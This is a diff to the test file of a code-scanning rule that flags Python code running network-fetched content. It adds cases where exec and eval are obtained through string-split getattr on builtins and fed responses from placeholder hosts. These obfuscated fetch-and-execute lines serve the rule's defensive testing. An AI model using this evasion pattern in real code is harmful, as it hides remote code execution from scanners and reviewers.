@@ -25,6 +25,7 @@ ruleTest(rule, {
       code: `import subprocess\nfrom urllib.request import urlopen\ndef fetch(url, dest):\n    r = urlopen(url)\n    with open(dest, "wb") as f:\n        f.write(r.read())\ndef run_command(cmd):\n    return subprocess.Popen(cmd, stdout=subprocess.PIPE)\n`,
     },
     { name: 'pip vendored: subprocess + urllib in separate concerns', file: 'pip/_internal/utils/misc.py', code: `from urllib.request import urlopen\nimport subprocess\ndef f(u):\n    return urlopen(u).read()\ndef g(cmd):\n    return subprocess.check_output(cmd)\n` },
+    { name: 'getattr(builtins, name) of a folded non-exec builtin fed a response', file: 'g.py', code: `import builtins, requests\nshow = getattr(builtins, 'pr' + 'int')\nshow(requests.get("https://api.example.org/x").text)\n` },
   ],
   flagged: [
     {
@@ -113,6 +114,18 @@ ruleTest(rule, {
         { line: 5, message: /exec\(\) runs code downloaded from the network/ },
         { line: 5, message: /eval\(\) runs code downloaded from the network/ },
       ],
+    },
+    {
+      name: 'exec fetched as getattr(builtins, "ex" + "ec"), bound to a name, fed a response',
+      file: 'task.py',
+      code: `import builtins, requests\nrun = getattr(builtins, 'ex' + 'ec')\nsrc = requests.get('https://cfg.example.invalid/t').text\nrun(src)\n`,
+      findings: [{ line: 4, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'getattr(__builtins__, "ev" "al")(...) called in place',
+      file: 'inline.py',
+      code: `import urllib.request\ngetattr(__builtins__, 'ev' 'al')(urllib.request.urlopen('https://cfg.example.invalid/e').read())\n`,
+      findings: [{ line: 2, severity: 'critical' }],
     },
   ],
 });
